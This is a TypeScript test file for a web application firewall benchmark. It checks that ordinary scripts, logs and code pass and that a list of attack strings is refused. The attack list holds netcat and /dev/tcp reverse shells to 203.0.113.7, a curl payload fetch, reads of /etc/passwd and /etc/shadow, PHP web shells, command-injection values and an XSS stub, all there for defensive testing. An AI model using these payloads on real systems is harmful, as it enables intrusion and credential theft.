import assert from "node:assert/strict";
import { test } from "node:test";
import { shippedRuleSet, WafBench } from "../../gate/waf-corpus.ts";

/** Texts about commands and code are no injections; what breaks out of a value or names a secret in them is. */

const texts: readonly string[] = [
  '#!/bin/sh\nset -eu\ncp -r build/ "$1" && echo done',
  "apt-get update && apt-get install -y git\nmake -j4 && make install\nldconfig -v | tail -n 2",
  'FROM alpine:3.20\nRUN apk add --no-cache curl && rm -rf /var/cache/apk/*\nCMD ["sh", "-c", "node x.js"]',
  "jobs:\n  build:\n    steps:\n      - run: |\n          npm ci\n          npm test -- --ci && npm run build\n      - run: curl -fsS https://example.com/up | sh",
  "# m h dom mon dow\n0 3 * * * root cd /srv/app && ./rotate.sh --keep 7\n*/5 * * * * app /srv/app/bin/tick > /var/log/tick.log",
  "Mar  4 10:17:01 db2 CRON[991]: (backup) CMD (   cd /srv && tar -czf /tmp/b.tgz data)",
  'I run these:\n\n```bash\nexport KEY=$(cat ~/.config/app/key)\nfor i in 1 2 3; do curl -s "$URL"; sleep 2; done\n```\n\nbut nothing happens.',
  "$ docker ps -a | grep web\n$ docker logs web 2>&1 | tail -n 3\n$ kill -9 $(pidof web); ./start.sh",
  "Get-Service -Name spooler |\n  Where-Object Status -eq 'Running' |\n  Stop-Service -Force",
  '@echo off\nfor %%f in (*.csv) do (echo %%f & type "%%f" >> all.txt)\nif errorlevel 1 exit /b 1',
  'if [ "$(id -u)" -ne 0 ]; then\n  echo "run me as root"; exit 1\nfi\nOWNER="$(stat -c %U .)"',
  "Runtime rt = Runtime.getRuntime();\nlong used = rt.totalMemory() - rt.freeMemory();\nSystem.out.println(used);",
  "int cores = Runtime.getRuntime().availableProcessors();",
  "import os\nprint(os.getcwd(), os.sep)\nos.chdir('..')",
  "<?php\nnamespace App;\n\nfinal class Cart\n{\n    public function total(): int { return array_sum($this->items); }\n}\n",
  "<ul>\n<?php foreach ($items as $item): ?>\n  <li><?= htmlspecialchars($item->name) ?></li>\n<?php endforeach; ?>\n</ul>",
  'my %h;\nwhile (<STDIN>) { chomp; $h{$_}++ }\nsystem("clear") == 0 or die "no: $!";\nprint "$_\\n" for sort keys %h;',
  "const http = require('node:http').createServer(app);\nhttp.listen(3000);\nconsole.log('up');",
  "$_GET vs $_POST",
  "cmd.exe /c vs /k",
  "/etc/hosts file on a mac",
  ".env.example",
  "/dev/sda1",
  "Query:\nSELECT total FROM (SELECT id, sum(price) AS total FROM items GROUP BY id) t WHERE total > 100;",
  "<p>SELECT * FROM information_schema.columns WHERE table_name = 'items';<br>SHOW TABLES;</p>",
  "shasum",
  "ListUsers",
  "iconv",
  "tsc -p . && node scripts/pack.mjs",
  "^12.2 || 14 >=14.17",
  "Tool/2.8 (Linux; PHP 8.3; cURL 8.5.0; x86)",
  "/bin/sh -c apt-get update && apt-get install -y curl && rm -rf /var/lib/apt/lists/*",
  'write <button onclick="..."> only in demos',
  '<xsl:include href="common.xsl"/>',
];

const attacks: readonly string[] = [
  "10.0.0.1\nwhoami\nifconfig -a",
  "a title\nsome words of a text\nmore of it; cat /etc/passwd",
  "line one\nline two of three\n'; nc -e /bin/sh 203.0.113.7 4444 #",
  "one line\nof some words\n$(curl http://203.0.113.7/x)",
  "#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
  "<?php\n$c = $_POST['c'];\necho `$c`;\n?>",
  "<?php\n@eval($_REQUEST['x']);\nexit;\n",
  "GIF89a\n<?php\nfile_put_contents($_GET['n'], $_GET['d']);\n",
  "<?php\n$f = 'sys'.'tem';\n$f($argv[1]);\n",
  'Runtime r = Runtime.getRuntime();\nr.exec("id");\n//',
  "cd / && cat /etc/shadow",
  "1.0||1.0>0.5",
  "8.8.8.8 && python ./x.py",
  "some text here\nand a second line\n8.8.8.8; sleep 5",
  '{\n "host": "8.8.8.8; sleep 5",\n "note": "some text"\n}',
  "/dev/tcp/203.0.113.7/80",
  '<xsl:include href="http://203.0.113.7/x.xsl"/>',
  '<img src=x onerror="x...">',
];

const bench = new WafBench(shippedRuleSet());

function refused(text: string): boolean {
  const body = Buffer.from(JSON.stringify({ text }));
  return bench.give({ method: "POST", target: "/", headers: [["Content-Type", "application/json"]], body })
    .refused;
}

test("scripts, build files, logs and programs are texts, whole as they are", () => {
  assert.deepEqual(texts.filter(refused), []);
});

test("a program's text does not cover an injection, a web shell or a reverse shell", () => {
  assert.deepEqual(
    attacks.filter((text) => !refused(text)),
    [],
  );
});
